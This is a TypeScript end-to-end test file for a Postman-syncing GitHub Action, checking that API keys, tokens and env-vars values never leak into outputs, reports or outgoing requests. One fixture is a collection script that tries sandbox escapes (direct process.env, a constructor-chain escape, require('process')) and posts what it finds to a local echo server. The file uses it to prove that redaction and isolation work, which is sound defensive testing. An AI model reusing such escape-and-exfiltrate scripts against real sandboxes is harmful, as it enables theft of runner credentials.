/**
 * Secrets through the built action. Every run in the e2e files goes through `run()`, which greps
 * every byte the action produced (stdout, stderr, summary, outputs, plan, report, conflict copies,
 * JUnit, bodies sent to the GitHub stand-in) and everything it uploaded, for the API key, the GitHub
 * token and the `env-vars` values (`assertNothingLeaked` in fault-helpers.ts). This file adds the
 * scenarios built to tempt a leak: secret values read from Postman, a collection script that goes
 * after the runner's environment, and the ways the key could travel where it must not.
 *
 * The proxy case is covered at the client level by `__tests__/postman/proxy.test.ts` ("tunnels
 * with CONNECT; the proxy never sees the key in clear"); here only the runner-level setting is
 * checked: with `HTTPS_PROXY` set, a loopback API is never proxied.
 */
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it } from 'vitest'
import {
  API_KEY,
  GITHUB_TOKEN,
  annotationsOf,
  asFile,
  collection,
  commit,
  environment,
  lines,
  leakedSecrets,
  producedBytes,
  readPlan,
  run,
  scenario,
  startForwarder,
  transcript,
  writesOf,
  useWorldWithSampleApi
} from './fault-helpers.js'

const servers = useWorldWithSampleApi()

/** Distinctive values, so a grep means something. */
const POSTMAN_SECRET = 'postman-side-secret-7f3a9c1e5b'
const ENV_VAR_SECRET = 'env-vars-secret-value-4d8e2a6b'
const RUNNER_TOKEN = 'actions-runtime-token-9b1c7e3f'

/**
 * A collection whose test script goes after the runner's environment every way a sandbox escape
 * could, and posts what it found to the servers.sample API's echo route; it also sends the `env-vars`
 * value as a header (which scripts may do) and fails an assertion, so a failure excerpt exists.
 */
function exfiltratingCollection(): Record<string, unknown> {
  const script = [
    'let found = {};',
    "try { found.direct = typeof process !== 'undefined' ? process.env : 'no process'; } catch (e) { found.direct = String(e); }",
    "try { found.escape = this.constructor.constructor('return process')().env; } catch (e) { found.escape = String(e); }",
    "try { found.required = require('process').env; } catch (e) { found.required = String(e); }",
    "pm.sendRequest({ url: pm.environment.get('baseUrl') + '/echo', method: 'POST', header: { 'Content-Type': 'application/json' }, body: { mode: 'raw', raw: JSON.stringify(found) } }, () => {});",
    "pm.test('token header echoed', () => pm.expect(pm.response.json().headers['x-token']).to.eql('something else'));"
  ]
  const body = collection('Exfiltrate', [['Echo', 'GET', '{{baseUrl}}/echo']], { tests: { Echo: script } })
  ;(body.item as Array<{ request: { header: unknown[] } }>)[0]!.request.header.push({ key: 'X-Token', value: '{{apiToken}}' })
  return body
}

describe('no secret in anything the action writes', () => {
  it('a push with runs, a conflict copy of an environment holding a Postman secret, a check run and a JUnit report', async () => {
    servers.world.postmanSecrets['the secret value kept in Postman'] = POSTMAN_SECRET
    const envFile = (base: string, extra: Array<[string, string]> = []) =>
      asFile(environment('Staging', [['baseUrl', base], ['apiToken', '', 'secret'], ...extra]))
    const files = {
      'postman/exfiltrate.postman_collection.json': asFile(exfiltratingCollection()),
      'postman/staging.postman_environment.json': envFile(servers.sample.url)
    }
    const s = await scenario(servers.world, files)
    const first = await run(s)
    expect(first.code, transcript(first)).toBe(0)

    // In Postman: the secret gets its value (as teams do), and someone edits the environment.
    const staging = servers.world.emu.environments(s.workspace).find((e) => e.name === 'Staging')!
    servers.world.emu.editEnvironment(staging.uid, (body) => {
      for (const v of body.values) if (v.key === 'apiToken') v.value = POSTMAN_SECRET
      body.values.push({ key: 'editedInPostman', value: 'yes', type: 'default', enabled: true })
      for (const v of body.values) if (v.key === 'baseUrl') v.value = `${servers.sample.url}/moved`
    })
    // The repository changes the same variable: a conflict, whose Postman copy is written out.
    await commit(s, { 'postman/staging.postman_environment.json': envFile(servers.sample.url, [['timeoutMs', '5000']]) }, 'env change')

    const junit = `${s.repo.dir}/reports/junit.xml`
    const result = await run(s, {
      inputs: {
        'on-conflict': 'skip',
        run: 'true',
        'run-environment': 'postman/staging.postman_environment.json',
        'env-vars': `apiToken=${ENV_VAR_SECRET}`,
        'junit-report': 'reports/junit.xml'
      },
      env: { ACTIONS_RUNTIME_TOKEN: RUNNER_TOKEN, ACTIONS_ID_TOKEN_REQUEST_TOKEN: RUNNER_TOKEN },
      producedFiles: [junit]
    })
    // The leak check ran inside run(); make sure the scenario did what it was built to do.
    const plan = await readPlan(result)
    const entry = plan?.entries.find((e) => e.path === 'postman/staging.postman_environment.json') as { action: string; remoteCopy?: string } | undefined
    expect(entry?.action, transcript(result)).toBe('conflict')
    expect(entry?.remoteCopy).toBeDefined()
    expect(result.outputs['assertions-failed']).not.toBe('0')
    expect(result.githubCalls.some((c) => c.method === 'POST' && c.path.endsWith('/check-runs'))).toBe(true)
    expect(annotationsOf(result).some((a) => a.file === 'postman/exfiltrate.postman_collection.json')).toBe(true)
    const everything = await producedBytes(result, [junit])
    expect(everything).toContain('token header echoed') // the failure is reported…
    expect(leakedSecrets(everything, { a: POSTMAN_SECRET, b: ENV_VAR_SECRET, c: API_KEY, d: GITHUB_TOKEN, e: RUNNER_TOKEN })).toEqual([]) // …without its values
    // Postman keeps its secret value: the action never overwrote it with the repository's blank.
    expect(
      servers.world.emu
        .environments(s.workspace)
        .find((e) => e.name === 'Staging')
        ?.body.values.find((v: { key: string }) => v.key === 'apiToken')?.value
    ).toBe(POSTMAN_SECRET)

    // What the script could reach and send: none of the runner's credentials.
    const echoed = servers.sample.log.filter((r) => r.method === 'POST' && r.path === '/echo')
    expect(echoed.length).toBeGreaterThan(0)
    // The sandbox has no `process`, by any route; had one worked, PATH would be in the body.
    for (const r of echoed)
      expect(JSON.parse(r.body)).toEqual({
        direct: 'no process',
        escape: expect.stringMatching(/process is not defined/),
        required: expect.stringMatching(/Cannot find module/)
      })
    // The env-vars value did reach the request it was meant for (so its absence above means redaction).
    expect(servers.sample.log.some((r) => r.path === '/echo' && r.headers['x-token'] === ENV_VAR_SECRET)).toBe(true)
    const sent = JSON.stringify(servers.sample.log)
    expect(leakedSecrets(sent, { 'the API key': API_KEY, 'the GitHub token': GITHUB_TOKEN, 'ACTIONS_* tokens': RUNNER_TOKEN })).toEqual([])
    expect(sent).not.toMatch(/INPUT_POSTMAN-API-KEY|INPUT_GITHUB-TOKEN|ACTIONS_RUNTIME_TOKEN/)
  }, 60_000)
})

describe('where the key travels', () => {
  it('only in the X-Api-Key header: never in a query string, on any call of a push', async () => {
    const s = await scenario(servers.world, { 'postman/a.postman_collection.json': asFile(collection('A', [['x', 'GET', 'https://api.example.test/x']])) })
    const r = await run(s)
    expect(r.code, transcript(r)).toBe(0)
    expect(r.requests.length).toBeGreaterThan(5)
    expect(r.requests.filter((q) => q.apiKeyInQuery || !q.apiKeyPresent)).toEqual([])
  })

  // bad-input.test.ts has http://example.com; these two only look like loopback.
  it.each(['http://127.0.0.1.nip.io', 'http://localhost.example.test:8080'])(
    'never over plain HTTP to a non-loopback host: api-url %s is refused before any request',
    async (url) => {
      const s = await scenario(servers.world, { 'postman/a.postman_collection.json': asFile(collection('A', [['x', 'GET', 'https://api.example.test/x']])) })
      const r = await run(s, { inputs: { 'api-url': url } })
      expect(r.code).not.toBe(0)
      expect(
        annotationsOf(r)
          .map((a) => a.message)
          .join('\n')
      ).toMatch(/Input 'api-url'.*https/)
      // Refused while reading the inputs: no client exists yet, so no request can have gone anywhere.
      expect(r.requests).toEqual([])
    }
  )

  it('never after a redirect to another host: the redirect is reported, not followed', async () => {
    const elsewhere = await startRecorder()
    const forwarder = await startForwarder(servers.world.emu.url)
    try {
      forwarder.decide = ({ path }) => ({ answer: { status: 307, headers: { location: `${elsewhere.url}${path}` }, body: '' } })
      const s = await scenario(servers.world, { 'postman/a.postman_collection.json': asFile(collection('A', [['x', 'GET', 'https://api.example.test/x']])) })
      const r = await run(s, { inputs: { 'api-url': forwarder.url } })
      expect(r.code).not.toBe(0)
      expect(
        annotationsOf(r)
          .map((a) => a.message)
          .join('\n')
      ).toMatch(/redirect to http:\/\/127\.0\.0\.1:\d+, which is not followed/)
      expect(elsewhere.requests).toEqual([])
    } finally {
      await forwarder.close()
      await elsewhere.close()
    }
  })

  it('with HTTPS_PROXY and HTTP_PROXY set, a loopback API is reached directly (the proxy sees nothing)', async () => {
    const proxy = await startRecorder()
    try {
      const s = await scenario(servers.world, { 'postman/a.postman_collection.json': asFile(collection('A', [['x', 'GET', 'https://api.example.test/x']])) })
      const r = await run(s, { env: { HTTPS_PROXY: proxy.url, HTTP_PROXY: proxy.url, https_proxy: proxy.url, http_proxy: proxy.url } })
      expect(r.code, transcript(r)).toBe(0)
      expect(writesOf(r.requests).length, lines(r.requests).join('\n')).toBeGreaterThan(0)
      expect(proxy.requests).toEqual([])
    } finally {
      await proxy.close()
    }
  })
})

/** A loopback server that records every request (and CONNECT) it gets, and answers 502. */
async function startRecorder(): Promise<{ url: string; requests: string[]; close(): Promise<void> }> {
  const requests: string[] = []
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url} key=${req.headers['x-api-key'] !== undefined}`)
    res.writeHead(502).end()
  })
  server.on('connect', (req, socket) => {
    requests.push(`CONNECT ${req.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      })
  }
}

describe('secrets past redaction: every form a service can echo an env-vars value in', () => {
  /** Has a space and characters form encoding writes as %21 %28 %29: the forms differ from encodeURIComponent's. */
  const VALUE = 'Sx9 q!(t)~secret-4d8e'

  it('Basic auth of user:value, form-encoded (+ and %21%28), and a value straddling the 300-character excerpt cut', async () => {
    const fail = (name: string) => [`pm.test('${name} echoed', () => pm.expect(pm.response.text()).to.eql('no'));`]
    // The echo answers {"method":"GET","path":"/echo","query":{"pad":"x…","k":"<value>"},…}: the
    // padding puts the value's first characters just before character 300 of the body.
    const prefix = '{"method":"GET","path":"/echo","query":{"pad":"'
    const pad = 'x'.repeat(300 - prefix.length - '","k":"'.length - 4)
    const body = collection(
      'Echoes',
      [
        ['Basic', 'GET', '{{baseUrl}}/echo'],
        ['Form', 'POST', '{{baseUrl}}/echo'],
        ['Cut', 'GET', `{{baseUrl}}/echo?pad=${pad}&k={{apiToken}}`]
      ],
      { tests: { Basic: fail('basic'), Form: fail('form'), Cut: fail('cut') } }
    )
    const items = body.item as Array<{ request: Record<string, unknown> }>
    items[0]!.request.auth = {
      type: 'basic',
      basic: [
        { key: 'username', value: 'svc-user', type: 'string' },
        { key: 'password', value: '{{apiToken}}', type: 'string' }
      ]
    }
    // postman-runtime writes %20 in urlencoded bodies; a script builds the HTML-form encoding
    // (+ for a space, %21 %28 %29 %7E) that browsers and many services use.
    items[1]!.request.body = { mode: 'raw', raw: 'pw={{formToken}}' }
    ;(items[1] as { event?: unknown[] }).event = [
      ...((items[1] as { event?: unknown[] }).event ?? []),
      {
        listen: 'prerequest',
        script: {
          type: 'text/javascript',
          exec: [
            "const v = pm.environment.get('apiToken') || pm.variables.get('apiToken');",
            "pm.variables.set('formToken', encodeURIComponent(v).replace(/%20/g, '+').replace(/[!'()~]/g, (c) => '%' + c.charCodeAt(0).toString(16).toUpperCase()));"
          ]
        }
      }
    ]
    const s = await scenario(servers.world, {
      'postman/echoes.postman_collection.json': asFile(body),
      'postman/local.postman_environment.json': asFile(
        environment('Local', [
          ['baseUrl', servers.sample.url],
          ['apiToken', '', 'secret']
        ])
      )
    })
    const junit = `${s.repo.dir}/reports/junit.xml`
    const mark = servers.sample.log.length
    // run() checks every byte produced (stdout, summary, outputs, plan, run report, JUnit, check
    // run bodies) for the value in every form, decoded base64 runs included, and throws on a leak.
    const r = await run(s, {
      inputs: {
        run: 'true',
        'run-environment': 'postman/local.postman_environment.json',
        'env-vars': `apiToken=${VALUE}`,
        'junit-report': 'reports/junit.xml'
      },
      producedFiles: [junit]
    })
    expect(r.outputs['assertions-failed'], transcript(r)).toBe('3')
    // The service really received (and so echoed) each form: the test would be empty otherwise.
    const sent = servers.sample.log.slice(mark)
    expect(sent.some((q) => q.headers.authorization === `Basic ${Buffer.from(`svc-user:${VALUE}`).toString('base64')}`)).toBe(true)
    expect(sent.some((q) => q.body === `pw=${new URLSearchParams({ v: VALUE }).toString().slice(2)}`)).toBe(true)
    expect(new URLSearchParams({ v: VALUE }).toString()).toMatch(/\+.*%21%28/)
    const everything = await producedBytes(r, [junit])
    expect(everything).toContain('basic echoed')
    expect(everything).toContain('[redacted]')
    // The excerpt cut at 300 shows the start of the marker, not the first characters of the value.
    expect(everything).not.toContain('Sx9')
    expect(leakedSecrets(everything, { 'the env-vars value': VALUE })).toEqual([])
  }, 60_000)
})
